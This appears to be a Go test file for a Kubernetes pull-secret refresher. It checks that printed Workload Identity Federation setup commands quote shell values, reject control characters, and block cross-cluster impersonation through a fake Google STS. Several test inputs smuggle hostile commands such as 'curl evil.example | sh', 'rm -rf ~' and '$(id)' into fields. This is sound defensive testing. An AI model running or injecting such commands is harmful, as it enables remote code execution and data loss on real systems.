package refresher

import (
	"crypto/rand"
	"crypto/rsa"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pullsecret/pullsecret/internal/kube"
	"github.com/pullsecret/pullsecret/internal/testing/check"
	"github.com/pullsecret/pullsecret/internal/testing/fakegoogle"
	"github.com/pullsecret/pullsecret/internal/testing/fakejwt"
)

const (
	wifProvider = "projects/123456/locations/global/workloadIdentityPools/prod-cluster/providers/prod"
	wifPuller   = "puller@my-project.iam.gserviceaccount.com"
	wifNS       = "pullsecret"
	testJWKS    = `{"keys":[{"kty":"RSA","kid":"k1","n":"AQAB","e":"AQAB"}]}`
)

// The printed setup, as an operator pastes it: the provider trusts only
// the refresher's ServiceAccount (attribute condition), maps it to a
// subject that names the provider, advises one pool per cluster, and
// quotes every value for the shell.
func TestSetupCommandsGolden(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		iss  kube.Issuer
		sa   string
	}{
		{"uploaded-keys", kube.Issuer{URL: "https://kubernetes.default.svc.cluster.local", JWKS: []byte(testJWKS)}, wifPuller},
		{"public-issuer", kube.Issuer{URL: "https://container.googleapis.com/v1/projects/p/locations/europe-west1/clusters/prod", JWKS: []byte(testJWKS)}, wifPuller},
		// Shell metacharacters in values are quoted, never interpreted.
		{"quoted-values", kube.Issuer{URL: "https://oidc.example.com/it's $(id) `x`", JWKS: []byte(testJWKS)}, "puller;$(id)@my-project.iam.gserviceaccount.com"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, err := SetupCommands(&tc.iss, wifProvider, tc.sa, wifNS)
			if err != nil {
				t.Fatal(err)
			}
			check.Golden(t, filepath.Join("testdata", "wifsetup", tc.name+".golden"), got)
			for _, want := range []string{
				`--attribute-condition="assertion.sub == 'system:serviceaccount:pullsecret:pullsecret-refresher'"`,
				`--attribute-mapping="google.subject='prod:' + assertion.sub"`,
				"/subject/prod:system:serviceaccount:pullsecret:pullsecret-refresher",
				"one pool per cluster",
			} {
				if !strings.Contains(got, want) {
					t.Errorf("setup lacks %q", want)
				}
			}
		})
	}
}

// A value that would end a comment or a command (a newline, any control
// character) is refused, as are a namespace that is not one and a subject
// over Google's 127 bytes.
func TestSetupCommandsRefuses(t *testing.T) {
	t.Parallel()
	good := kube.Issuer{URL: "https://kubernetes.default.svc", JWKS: []byte(testJWKS)}
	long := "projects/123456/locations/global/workloadIdentityPools/p/providers/" + strings.Repeat("a", 32)
	for _, tc := range []struct {
		name             string
		iss              kube.Issuer
		provider, sa, ns string
		want             string
	}{
		{"issuer with a newline", kube.Issuer{URL: "https://kubernetes.default.svc\ncurl evil.example | sh", JWKS: good.JWKS}, wifProvider, wifPuller, wifNS, "issuer"},
		{"issuer with a carriage return", kube.Issuer{URL: "https://kubernetes.default.svc\r", JWKS: good.JWKS}, wifProvider, wifPuller, wifNS, "control character"},
		{"keys with a newline", kube.Issuer{URL: good.URL, JWKS: []byte("{}\nJWKS\nrm -rf ~")}, wifProvider, wifPuller, wifNS, "control character"},
		{"service account with a newline", good, wifProvider, "a@b.iam.gserviceaccount.com\nrm -rf ~", wifNS, `input "service_account"`},
		{"namespace with a newline", good, wifProvider, wifPuller, "ns\nrm", `input "refresh_namespace"`},
		{"not a namespace", good, wifProvider, wifPuller, "Not_A_Namespace", `input "refresh_namespace"`},
		{"not a provider", good, "projects/x/providers/y", wifPuller, wifNS, `input "refresh_workload_identity_provider"`},
		{"subject over 127 bytes", good, long, wifPuller, strings.Repeat("n", 63), "127"},
	} {
		if _, err := SetupCommands(&tc.iss, tc.provider, tc.sa, tc.ns); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: error %v, want one containing %q", tc.name, err, tc.want)
		}
	}
	// The longest namespace fits under a provider ID of ordinary length.
	if _, err := SetupCommands(&good, wifProvider, wifPuller, strings.Repeat("n", 63)); err != nil {
		t.Errorf("63-byte namespace: %v", err)
	}
	if n := len(GoogleSubject(wifProvider, strings.Repeat("n", 63))); n > MaxSubjectBytes {
		t.Errorf("subject of a 63-byte namespace is %d bytes", n)
	}
}

// Attack: the provider used to trust the whole pool and map google.subject
// to the bare sub, so the refresher's namespace and ServiceAccount in
// another cluster trusted by the pool was the same principal and could
// impersonate the production puller. Providers configured as printed (at
// the fake STS) let only this cluster's refresher through.
func TestPrintedProviderTrustsOnlyThisClustersRefresher(t *testing.T) {
	t.Parallel()
	staging := "projects/123456/locations/global/workloadIdentityPools/prod-cluster/providers/staging"
	type cluster struct {
		provider, issuer string
		key              *rsa.PrivateKey
	}
	newCluster := func(provider, issuer string) cluster {
		k, err := rsa.GenerateKey(rand.Reader, 2048)
		if err != nil {
			t.Fatal(err)
		}
		return cluster{provider, issuer, k}
	}
	prod, other := newCluster(wifProvider, "https://prod.example.com"), newCluster(staging, "https://staging.example.com")
	g, err := fakegoogle.New(fakegoogle.Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []cluster{prod, other} {
		// What the printed create-oidc sets: the mapping as printed; the
		// condition, which the fake takes as the claim it pins.
		if err := g.AddProvider(fakegoogle.Provider{Name: c.provider, IssuerURI: c.issuer,
			PublicKeys:       map[string]*rsa.PublicKey{"k1": &c.key.PublicKey},
			AllowedAudiences: []string{ProjectedTokenAudience(c.provider)},
			AttributeMapping: map[string]string{"google.subject": SubjectMapping(c.provider)},
			RequiredClaims:   map[string]string{"sub": KubernetesSubject(wifNS)},
		}); err != nil {
			t.Fatal(err)
		}
	}
	if cond := AttributeCondition(wifNS); cond != "assertion.sub == '"+KubernetesSubject(wifNS)+"'" {
		t.Fatalf("the printed condition %q is not the pinned sub the fake checks", cond)
	}
	if err := g.Grant(wifPuller, RefresherPrincipal(wifProvider, wifNS)); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(g.Handler())
	t.Cleanup(srv.Close)

	// impersonate exchanges a token of c's issuer for sub and asks for the
	// puller's token with the result: the STS status, then IAM's.
	impersonate := func(c cluster, sub string) (int, int) {
		now := time.Now()
		tok, err := fakejwt.Sign(c.key, "k1", map[string]any{"iss": c.issuer, "sub": sub,
			"aud": []string{ProjectedTokenAudience(c.provider)}, "iat": now.Unix(), "exp": now.Add(10 * time.Minute).Unix()})
		if err != nil {
			t.Fatal(err)
		}
		form := url.Values{"grant_type": {fakegoogle.GrantTypeTokenExchange}, "audience": {fakegoogle.STSAudience(c.provider)},
			"scope": {fakegoogle.ScopeCloudPlatform}, "requested_token_type": {fakegoogle.TokenTypeAccessToken},
			"subject_token": {tok}, "subject_token_type": {fakegoogle.TokenTypeJWT}}
		resp, err := http.Post(fakegoogle.STSTokenURL(srv.URL), "application/x-www-form-urlencoded", strings.NewReader(form.Encode()))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var body struct {
			AccessToken string `json:"access_token"`
		}
		if resp.StatusCode != http.StatusOK || json.NewDecoder(resp.Body).Decode(&body) != nil {
			return resp.StatusCode, 0
		}
		req, _ := http.NewRequest(http.MethodPost, fakegoogle.GenerateAccessTokenURL(srv.URL, wifPuller), strings.NewReader(`{"scope":["`+fakegoogle.ScopeCloudPlatform+`"]}`))
		req.Header.Set("Authorization", "Bearer "+body.AccessToken)
		req.Header.Set("Content-Type", "application/json")
		iam, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		iam.Body.Close()
		return resp.StatusCode, iam.StatusCode
	}
	refresherSub := KubernetesSubject(wifNS)
	for _, tc := range []struct {
		name          string
		c             cluster
		sub           string
		wantSTS, want int
	}{
		{"this cluster's refresher", prod, refresherSub, 200, 200},
		{"the same ServiceAccount in another cluster of the pool", other, refresherSub, 200, 403},
		{"another ServiceAccount of this cluster", prod, "system:serviceaccount:" + wifNS + ":default", 400, 0},
	} {
		if sts, iam := impersonate(tc.c, tc.sub); sts != tc.wantSTS || iam != tc.want {
			t.Errorf("%s: STS %d, generateAccessToken %d; want %d, %d", tc.name, sts, iam, tc.wantSTS, tc.want)
		}
	}
}
